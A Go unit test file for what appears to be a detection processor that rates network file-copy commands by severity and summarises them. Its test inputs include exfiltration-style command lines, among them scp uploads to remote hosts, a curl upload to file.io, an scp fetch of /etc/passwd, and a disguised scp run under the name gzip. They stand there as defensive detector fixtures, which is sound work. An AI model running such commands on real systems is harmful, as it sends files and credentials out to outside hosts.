package netfilecopyprocessor

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSummary(t *testing.T) {
	long := strings.Repeat("é", 600)
	known := map[string]any{
		"process.user.name":                 "alice",
		"process.parent.executable.name":    "make",
		"process.ancestors.executable.name": []any{"make", "bash", "sshd"},
	}
	for _, tt := range []struct {
		line string
		more map[string]any
		want string
	}{
		{"scp build.tgz deploy@203.0.113.7:/in", known, "CRITICAL scp upload build.tgz -> deploy@203.0.113.7:/in by alice (make < bash < sshd)"},
		{"scp -P 2222 a b c d e 'x y' h.example.org:", nil, "HIGH scp upload a b c (and 3 more) -> h.example.org:2222 by uid 1000"},
		{"scp '[2001:db8::1]:/etc/passwd' .", nil, "MEDIUM scp download [2001:db8::1]:/etc/passwd -> . by uid 1000"},
		{"curl -F 'f=@a b' https://file.io/", nil, "CRITICAL curl upload 'a b' -> https://file.io/ by uid 1000"},
		{"sftp -b cmds h.example.org", nil, "HIGH sftp -> h.example.org by uid 1000"},
		{"rsync --daemon", nil, "HIGH rsync listen rsync --daemon by uid 1000"},
		{"scp --", map[string]any{"process.command_line": long}, "LOW scp none " + long[:1020] + "… by uid 1000"},
		{"scp f h:", map[string]any{"process.executable.name": "gzip", "process.executable.original_name": "scp"}, "CRITICAL scp upload as gzip f -> h by uid 1000"},
		{"scp f h:" + long, map[string]any{"process.user.name": long}, ""},
	} {
		t.Run(tt.line, func(t *testing.T) {
			p := newProcessor(t, Config{})
			v := verdictOf(t, p, tt.line, tt.more)
			require.NotNil(t, v)
			e := executionOf(t, tt.line, tt.more)
			got := v.summary(e)
			if tt.want == "" {
				assert.Less(t, len(got), 128+endLimit*2+nameLimit)
				return
			}
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestLineageIsBounded(t *testing.T) {
	e := execution{}
	for range 100 {
		e.ancestors = append(e.ancestors, "sh")
	}
	assert.Equal(t, " (sh"+strings.Repeat(" < sh", 15)+")", string(appendLineage(nil, &e)))
}
